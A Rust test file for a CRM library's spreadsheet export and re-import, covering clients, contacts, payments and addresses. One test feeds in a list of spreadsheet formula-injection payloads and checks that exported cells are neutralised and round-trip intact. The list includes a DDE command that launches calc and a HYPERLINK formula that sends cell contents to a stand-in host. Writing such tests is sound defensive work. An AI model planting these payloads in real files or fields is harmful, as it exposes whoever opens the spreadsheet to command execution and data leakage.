//! Files of rows out, and read back as they are read from others.

use guanxi::domain::client::strategies::client_edit;
use guanxi::domain::client::{Client, ClientEdit, NewClient};
use guanxi::domain::contact::{Address, ContactEdit, NewContact};
use guanxi::domain::interaction::NewInteraction;
use guanxi::domain::transaction::{NewLine, NewTransaction};
use guanxi::domain::{Email, Held, Lang, Line, Note, Phone, Tag};
use guanxi::transfer::{
    ClientRow, Limits, Mapping, Row, Rows, Sheet, SheetForm, SheetWritten, Subject, Told,
};
use guanxi::{Actor, ClientId, Crm, Desk, ErrorKind};
use proptest::prelude::*;

use super::firm::firm;
use crate::engines::{House, at, everywhere, me};

fn file(desk: &Desk, subject: Subject, form: SheetForm) -> (Vec<u8>, SheetWritten) {
    let (mut file, exports) = (Vec::new(), desk.exports());
    let written = match subject {
        Subject::Clients => exports.clients(form, &mut file),
        Subject::Contacts => exports.contacts(form, &mut file),
        Subject::Interactions => exports.interactions(form, &mut file),
        Subject::Transactions => exports.transactions(form, &mut file),
    };
    (file, written.unwrap())
}

/// What a file tells, row by row, when it is read back.
fn told(file: &[u8], subject: Subject) -> Vec<Told> {
    let mapping = Mapping::of(subject, "UTC".parse().unwrap()).system("guanxi").unwrap();
    let mapping = mapping.person(&me().to_string(), me());
    let sheet = Sheet::open(file, mapping).unwrap();
    sheet.map(|row| row.unwrap().unwrap()).collect()
}

/// Every cell of a file, as a spreadsheet is given it.
fn cells(file: &[u8]) -> Vec<String> {
    let mut rows = Rows::open(file, Limits::default()).unwrap();
    let (mut row, mut cells) = (Row::new(), Vec::new());
    while rows.read(&mut row).unwrap() {
        cells.extend(row.cells().map(str::to_owned));
    }
    cells
}

const FORMS: [SheetForm; 3] =
    [SheetForm::of(Lang::Zh), SheetForm::of(Lang::En), SheetForm::of(Lang::En).without_mark()];

/// What was tried on others: formulas, and what hides them.
const ATTACKS: [&str; 12] = [
    "=cmd|'/c calc'!A1",
    "+1",
    "-1",
    "@SUM(A1:A9)",
    "=HYPERLINK(\"http://x/?\"&A1,\"see\")",
    "'=1+1",
    "''=1+1",
    "\u{200B}=1+1",
    "\u{2060}@x",
    "\u{FF1D}1+1",
    "-2+3+cmd|'/c calc'!A1",
    "=1;=2",
];

#[test]
fn what_looks_like_a_formula_is_none_in_the_file_and_comes_back() {
    let house = House::in_memory();
    let desk = house.desk();
    for attack in ATTACKS {
        let edit = ClientEdit::new()
            .business(Note::new(attack).unwrap())
            .background(Note::new(&format!("\t{attack}")).unwrap())
            .tag(Tag::new(attack).unwrap());
        let new = NewClient::organisation(attack).unwrap().with(edit);
        let client = desk.clients().register(new).unwrap().id();
        let said = NewInteraction::call(at("2026-05-04T08:00:00Z")).subject(attack).body(attack);
        desk.interactions().log(client, said.promised(attack)).unwrap();
        let contact = NewContact::named(attack).unwrap();
        desk.contacts().add(client, contact).unwrap();
    }
    for form in FORMS {
        for subject in Subject::ALL {
            for cell in cells(&file(&desk, subject, form).0) {
                let unseen = |ch: char| ch.is_whitespace() || matches!(ch, '\u{200B}' | '\u{2060}');
                let first = cell.trim_start_matches(unseen).chars().next();
                let formula = matches!(first, Some('=' | '+' | '-' | '@' | '\u{FF1D}'));
                assert!(!formula && !cell.starts_with(['\t', '\r']), "{cell:?}");
            }
        }
        for (row, attack) in
            told(&file(&desk, Subject::Clients, form).0, Subject::Clients).iter().zip(ATTACKS)
        {
            let Told::Client(row) = row else { panic!() };
            assert_eq!(row.name().as_str(), attack);
            assert_eq!(again(row).business(), Held::Known(Some(attack.to_owned())));
            assert_eq!(again(row).background(), Held::Known(Some(format!("\t{attack}"))));
            assert_eq!(again(row).tags(), [attack]);
        }
        let said = told(&file(&desk, Subject::Interactions, form).0, Subject::Interactions);
        for (row, attack) in said.iter().zip(ATTACKS) {
            let Told::Interaction(row) = row else { panic!() };
            let client = desk.clients().register(NewClient::organisation("x").unwrap()).unwrap();
            let logged = desk.interactions().log(client.id(), row.log().clone()).unwrap();
            let Held::Known(words) = logged.now.words() else { panic!() };
            assert_eq!(words.subject.as_ref().unwrap().as_str(), attack);
            assert_eq!(words.body.as_ref().unwrap().as_str(), attack);
            assert_eq!(words.promised, [Line::new(attack).unwrap()]);
            desk.clients().erase(client.id()).unwrap();
        }
    }
}

/// A client as a row registers it.
struct Again(Client);

fn again(row: &ClientRow) -> Again {
    let crm = Crm::memory().unwrap();
    let desk = crm.desk(Actor::system());
    desk.staff().enrol(me(), guanxi::domain::staff::NewStaff::named("x").unwrap()).unwrap();
    Again(desk.clients().register(row.register()).unwrap().now)
}

impl Again {
    fn business(&self) -> Held<Option<String>> {
        self.0.business().map(|note| note.map(|note| note.value.as_str().to_owned()))
    }

    fn background(&self) -> Held<Option<String>> {
        self.0.background().map(|note| note.map(|note| note.value.as_str().to_owned()))
    }

    fn tags(&self) -> Vec<String> {
        let tags = self.0.tags().known().unwrap_or_default();
        tags.iter().map(|tag| tag.as_str().to_owned()).collect()
    }
}

#[test]
fn a_firm_goes_out_as_rows_on_every_engine() {
    everywhere(|house| {
        let known = firm(&house.crm);
        let desk = house.desk();
        for form in FORMS {
            let (clients, written) = file(&desk, Subject::Clients, form);
            assert_eq!((written.rows, written.records_left_out), (1, 1), "the erased one has none");
            let rows = told(&clients, Subject::Clients);
            let [Told::Client(row)] = rows.as_slice() else { panic!("{rows:?}") };
            let own = desk.clients().get(known.client).unwrap().now;
            assert_eq!(Held::Known(row.name()), own.name());
            assert_eq!(row.reference().id(), known.client.to_string());
            assert_eq!(row.since(), Some(own.begun()));
            let (contacts, written) = file(&desk, Subject::Contacts, form);
            assert_eq!((written.rows, written.records_left_out), (2, 1));
            for row in told(&contacts, Subject::Contacts) {
                let Told::Contact(row) = row else { panic!() };
                assert_eq!(row.client().reference.as_ref().unwrap().id(), known.client.to_string());
            }
            let (talks, written) = file(&desk, Subject::Interactions, form);
            // Two stand; the withdrawal, the team's meeting and the erased client's two do not.
            assert_eq!((written.rows, written.records_left_out), (2, 4));
            assert_eq!(told(&talks, Subject::Interactions).len(), 2);
            let (sold, written) = file(&desk, Subject::Transactions, form);
            assert_eq!((written.rows, written.records_left_out), (1, 0));
            let rows = told(&sold, Subject::Transactions);
            let [Told::Transaction(row)] = rows.as_slice() else { panic!("{rows:?}") };
            let again = row.record(None).unwrap();
            let desk = Crm::memory().unwrap().desk(Actor::system());
            let new = NewClient::organisation("x").unwrap();
            let client = desk.clients().register(new).unwrap().id();
            let recorded = desk.transactions().record(client, again).unwrap().now;
            let stands = house.desk().transactions().of(known.client).newest(1).unwrap();
            let stands = &stands.items[0].now;
            assert_eq!(recorded.lines(), stands.lines());
            assert_eq!((recorded.total(), recorded.at()), (stands.total(), stands.at()));
        }
    });
}

#[test]
fn what_was_paid_in_several_sums_is_counted_as_far_as_it_has_no_cell() {
    let house = House::in_memory();
    let desk = house.desk();
    let client = desk.clients().register(NewClient::organisation("x").unwrap()).unwrap().id();
    let yuan = |text: &str| format!("CNY {text}").parse::<guanxi::domain::Money>().unwrap();
    let line = NewLine::service("咨询", "1 h".parse().unwrap(), yuan("1000"));
    let order =
        NewTransaction::order(at("2026-04-02T10:00:00Z"), "CNY".parse().unwrap()).line(line);
    let order = order.paid(yuan("100")).paid(yuan("50")).paid(yuan("25"));
    let order = order.paid_with_points(50, yuan("0.50")).paid_with_points(30, yuan("0.30"));
    desk.transactions().record(client, order).unwrap();
    let (_, written) = file(&desk, Subject::Transactions, SheetForm::of(Lang::Zh));
    // Of money one sum has a cell, of points one.
    assert_eq!((written.rows, written.values_left_out), (1, 3));
}

#[test]
fn what_was_paid_and_refunded_comes_back() {
    let house = House::in_memory();
    let desk = house.desk();
    let client = desk.clients().register(NewClient::organisation("x").unwrap()).unwrap().id();
    let yuan = |text: &str| format!("CNY {text}").parse::<guanxi::domain::Money>().unwrap();
    let day = at("2026-04-02T10:00:00Z");
    let lines = ["1234567.89", "0.01"].map(|price| {
        NewLine::service("咨询", "1.50 h".parse().unwrap(), yuan(price)).tax(yuan("0.10"))
    });
    let [one, two] = lines;
    let order =
        NewTransaction::order(day, "CNY".parse().unwrap()).line(one).line(two.category("顾问"));
    let order = order.paid(yuan("100")).paid_with_points(50, yuan("0.50")).note("加急");
    desk.transactions().record(client, order).unwrap();
    desk.transactions().record(client, NewTransaction::payment(day, yuan("3.21"))).unwrap();
    let (file, written) = file(&desk, Subject::Transactions, SheetForm::of(Lang::Zh));
    assert_eq!((written.rows, written.values_left_out), (3, 0));
    let rows = told(&file, Subject::Transactions);
    let other = House::in_memory().crm.desk(Actor::system());
    let again = other.clients().register(NewClient::organisation("x").unwrap()).unwrap().id();
    let mut whole: Vec<guanxi::transfer::TransactionRow> = Vec::new();
    for row in rows {
        let Told::Transaction(row) = row else { panic!() };
        match whole.last_mut().filter(|last| last.reference() == row.reference()) {
            Some(last) => last.and(*row).unwrap(),
            None => whole.push(*row),
        }
    }
    for row in whole {
        other.transactions().record(again, row.record(None).unwrap()).unwrap();
    }
    let all = |desk: &Desk, client| {
        let page = desk.transactions().of(client).newest(10).unwrap();
        let all = page.items.into_iter().map(|found| found.now);
        let mut all: Vec<_> = all
            .map(|one| (one.kind(), one.lines().to_vec(), one.paid().to_vec(), one.total()))
            .collect();
        all.sort_by_key(|one| one.0);
        all
    };
    assert_eq!(all(&other, again), all(&desk, client));
}

fn contact_with(addresses: &[Address]) -> NewContact {
    let edit = addresses.iter().cloned().fold(ContactEdit::new(), ContactEdit::address);
    NewContact::named("李雷").unwrap().with(edit)
}

#[test]
fn addresses_have_their_columns_and_what_has_none_is_counted() {
    let house = House::in_memory();
    let desk = house.desk();
    let client = desk.clients().register(NewClient::organisation("x").unwrap()).unwrap().id();
    let note = |text| Address::Post(Note::new(text).unwrap());
    let chat = |service: &str, name: &str| {
        Address::Messenger(Tag::new(service).unwrap(), Line::new(name).unwrap())
    };
    let addresses = [
        Address::Email(Email::new("a@hua.cn").unwrap()),
        Address::Email(Email::new("b@hua.cn").unwrap()),
        Address::Mobile(Phone::new("+86 138 0013 8000").unwrap()),
        chat("WeChat", "li; lei"),
        note("北京市海淀区\n中关村 1 号"),
        note("上海"),
        chat("WhatsApp", "x"),
    ];
    desk.contacts().add(client, contact_with(&addresses)).unwrap();
    let (file, written) = file(&desk, Subject::Contacts, SheetForm::of(Lang::Zh));
    assert_eq!((written.rows, written.values_left_out), (1, 2));
    let rows = told(&file, Subject::Contacts);
    let [Told::Contact(row)] = rows.as_slice() else { panic!() };
    let again = desk.contacts().add(client, row.add().unwrap()).unwrap().now;
    let Held::Known(listed) = again.addresses() else { panic!() };
    let found: Vec<&Address> = listed.iter().map(|one| &one.address).collect();
    assert_eq!(found, addresses.iter().take(5).collect::<Vec<_>>());
}

#[test]
fn a_contact_gets_no_rows() {
    let house = House::in_memory();
    let known = firm(&house.crm);
    let portal = house.crm.desk(Actor::contact(known.client, known.contact));
    let denied = portal.exports().clients(SheetForm::of(Lang::Zh), Vec::new()).unwrap_err();
    assert_eq!(denied.kind(), ErrorKind::Denied);
}

/// What of a client stands in a row.
fn in_row(client: &Client) -> (Vec<String>, Vec<Option<String>>) {
    let tidy = |text: &str| {
        let unseen = |ch: char| {
            ch.is_whitespace() || matches!(ch, '\u{FEFF}' | '\u{200B}' | '\u{2060}' | '\u{AD}')
        };
        text.trim_matches(unseen).to_owned()
    };
    let notes = [client.business(), client.special_needs(), client.background()];
    let notes = notes.map(|note| note.known().flatten().map(|note| tidy(note.value.as_str())));
    let name = client.name().known().map(|name| tidy(name.as_str()));
    let tags = client.tags().known().unwrap_or_default();
    let tags = tags.iter().map(|tag| tag.as_str().to_owned()).collect();
    let kind = (client.kind(), client.segment(), client.owner());
    (tags, notes.into_iter().chain([name, Some(format!("{kind:?}"))]).collect())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 48, ..ProptestConfig::default() })]

    #[test]
    fn a_client_comes_back_from_its_row(edit in client_edit(), name in "[=+@\\-'a客;,\"\t]{1,9}", zh: bool) {
        let house = House::in_memory();
        let desk = house.desk();
        desk.staff().enrol(me(), guanxi::domain::staff::NewStaff::named("x").unwrap()).unwrap();
        let Ok(new) = NewClient::organisation(&name) else { return Ok(()) };
        let Ok(done) = desk.clients().register(new.with(edit)) else { return Ok(()) };
        let client: ClientId = done.id();
        let lang = if zh { Lang::Zh } else { Lang::En };
        let (file, written) = file(&desk, Subject::Clients, SheetForm::of(lang));
        prop_assume!(written.values_left_out == 0);
        let rows = told(&file, Subject::Clients);
        let [Told::Client(row)] = rows.as_slice() else { panic!("{rows:?}") };
        let own = desk.clients().get(client).unwrap().now;
        prop_assert_eq!(in_row(&again(row).0), in_row(&own));
    }
}
